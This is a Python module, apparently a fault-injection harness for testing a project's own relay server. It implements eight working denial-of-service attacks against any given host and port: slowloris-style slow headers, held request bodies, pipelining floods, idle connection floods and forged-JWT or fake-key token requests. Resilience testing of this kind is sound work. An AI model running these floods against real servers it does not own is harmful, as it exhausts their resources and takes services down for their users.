"""Attack a server with clients without a key that occupy memory.

`python -m faults.attackers KIND HOST PORT SECONDS`.
"""

import asyncio
import contextlib
import socket
import sys
import time
from base64 import urlsafe_b64encode
from collections.abc import Awaitable, Callable

from shared.infra.ids import new_key

_TOKENS, _WEBHOOKS = b"/v1/tokens", b"/api/webhooks/livekit"
_PAUSE_S = 0.02
_OPEN_AT_ONCE = 50


def _forged_signature() -> bytes:
    """Return a token in the form of LiveKit's, with an invalid signature."""
    parts = (b'{"alg":"HS256","typ":"JWT"}', b'{"iss":"devkey","exp":9999999999,"sha256":"eA=="}', b"x" * 32)
    return b".".join(urlsafe_b64encode(part).rstrip(b"=") for part in parts)


def _head(method: bytes, path: bytes, *headers: bytes) -> bytes:
    return b"\r\n".join([method + b" " + path + b" HTTP/1.1", b"Host: relay", *headers, b"", b""])


async def _connection(host: str, port: int, *, small_buffer: bool = False) -> socket.socket:
    client = socket.socket()
    if small_buffer:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.setblocking(False)
    await asyncio.get_running_loop().sock_connect(client, (host, port))
    return client


async def _hold(host: str, port: int, request: bytes, until: float, *, slowly: bytes = b"", reads: bool = True) -> None:
    """Send a request and keep the connection open until the server closes it, again and again.

    With ``slowly`` it sends these bytes once a second. Without ``reads`` it does not read.
    """
    loop = asyncio.get_running_loop()
    while time.monotonic() < until:
        client: socket.socket | None = None
        try:
            async with asyncio.timeout(max(0.1, until - time.monotonic())):
                client = await _connection(host, port, small_buffer=not reads)
                await loop.sock_sendall(client, request)
                while slowly:
                    await asyncio.sleep(1)
                    await loop.sock_sendall(client, slowly)
                if reads:
                    while await loop.sock_recv(client, 65536):
                        pass
                else:
                    await asyncio.sleep(until - time.monotonic())
        except (OSError, TimeoutError):
            pass
        finally:
            if client is not None:
                client.close()
        await asyncio.sleep(_PAUSE_S)


async def _many(count: int, hold: Callable[[int], Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(_as_task(hold(number)))
            if number % _OPEN_AT_ONCE == 0:
                await asyncio.sleep(_PAUSE_S)


async def _as_task(awaitable: Awaitable[None]) -> None:
    await awaitable


async def held_bodies(host: str, port: int, until: float) -> None:
    """400 connections send requests without the last byte of the body, to every route.

    They have no key or a forged one.
    """
    json = b"Content-Type: application/json"
    forged = b"Authorization: " + _forged_signature()
    requests = []
    for path, size, headers in (
        (_WEBHOOKS, 2**20, ()),
        (_WEBHOOKS, 2**20, (forged,)),
        (_TOKENS, 2**18, (json,)),
        (_TOKENS, 2**18, (json, b"Authorization: Bearer " + new_key("live", "secret").encode())),
        (b"/v1/rooms", 2**18, (json, b"Authorization: Bearer " + new_key("live", "secret").encode())),
        (b"/sign-in", 2**16, (b"Content-Type: application/x-www-form-urlencoded",)),
    ):
        requests.append(_head(b"POST", path, b"Content-Length: %d" % size, *headers) + b"x" * (size - 1))
    await _many(400, lambda number: _hold(host, port, requests[number % len(requests)], until))


async def held_webhooks(host: str, port: int, until: float) -> None:
    """400 connections send all but the last byte of 1 MiB to the webhook route, without a signature."""
    request = _head(b"POST", _WEBHOOKS, b"Content-Length: %d" % 2**20) + b"x" * (2**20 - 1)
    await _many(400, lambda _: _hold(host, port, request, until))


async def never_reading(host: str, port: int, until: float) -> None:
    """100 connections pipeline 20 requests each for a large page and read nothing."""
    request = _head(b"GET", b"/docs") * 20
    await _many(100, lambda _: _hold(host, port, request, until, reads=False))


async def pipelining(host: str, port: int, until: float) -> None:
    """20 connections pipeline 14,000 of the smallest requests in one write and read nothing."""
    request = b"GET / HTTP/1.1\r\n\r\n" * 14_000
    await _many(20, lambda _: _hold(host, port, request, until, reads=False))


async def half_requests(host: str, port: int, until: float) -> None:
    """Connections end in the middle of the headers or of the body, again and again."""
    loop = asyncio.get_running_loop()
    heads = [
        _head(b"POST", path, b"Content-Length: 60000", b"Content-Type: application/json")
        for path in (_TOKENS, _WEBHOOKS, b"/v1/rooms", b"/sign-in")
    ]

    async def cut_off(number: int) -> None:
        while time.monotonic() < until:
            request = (heads[number % len(heads)] + b"x" * 30_000)[: 60 if number % 3 == 0 else 30_000]
            with contextlib.suppress(OSError):
                client = await _connection(host, port)
                try:
                    await loop.sock_sendall(client, request)
                finally:
                    client.close()
            await asyncio.sleep(0.1)

    await _many(20, cut_off)


async def unknown_keys(host: str, port: int, until: float) -> None:
    """20 connections request tokens with keys that do not exist but have a valid checksum."""

    async def ask(_: int) -> None:
        body = b'{"room":"lobby","identity":"ada"}'
        while time.monotonic() < until:
            try:
                reader, writer = await asyncio.open_connection(host, port)
                while time.monotonic() < until:
                    key = b"Authorization: Bearer " + new_key("live", "secret").encode()
                    length = b"Content-Length: %d" % len(body)
                    writer.write(_head(b"POST", _TOKENS, key, length, b"Content-Type: application/json") + body)
                    await reader.readuntil(b"}")
                    await asyncio.sleep(0.05)
                writer.close()
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(_PAUSE_S)

    await _many(20, ask)


async def slow_headers(host: str, port: int, until: float) -> None:
    """600 connections send 60 kB of headers at once, then one byte a second."""
    request = b"GET / HTTP/1.1\r\nX-Filler: " + b"a" * 60_000
    await _many(600, lambda _: _hold(host, port, request, until, slowly=b"a"))


async def connections(host: str, port: int, until: float) -> None:
    """3,000 connections begin a request and send no more."""
    await _many(3000, lambda _: _hold(host, port, b"GET / HT", until))


KINDS: dict[str, Callable[[str, int, float], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        held_bodies,
        held_webhooks,
        never_reading,
        pipelining,
        half_requests,
        unknown_keys,
        slow_headers,
        connections,
    )
}


def main() -> None:
    kind, host, port, seconds = sys.argv[1:]
    asyncio.run(_as_task(KINDS[kind](host, int(port), time.monotonic() + float(seconds))))


if __name__ == "__main__":
    main()
